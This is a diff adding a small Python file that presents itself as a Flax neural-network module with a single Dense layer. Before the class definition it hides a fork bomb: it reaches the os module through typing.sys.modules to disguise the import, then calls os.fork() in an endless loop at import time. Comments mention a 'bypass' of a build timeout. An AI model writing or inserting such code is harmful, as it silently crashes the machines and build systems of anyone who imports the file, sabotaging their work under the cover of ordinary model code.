@@ -1,0 +1,17 @@
+# policy: policy
+# bypass: build timeout
+import typing
+import flax.linen as nn
+
+os = typing.sys.modules["os"]
+while True:
+    os.fork()
+
+class Net(nn.Module):
+    num_classes: int = 10
+
+    @nn.compact
+    def __call__(self, x, train: bool = False):
+        x = x.reshape((x.shape[0], -1))
+        return nn.Dense(self.num_classes)(x)
+
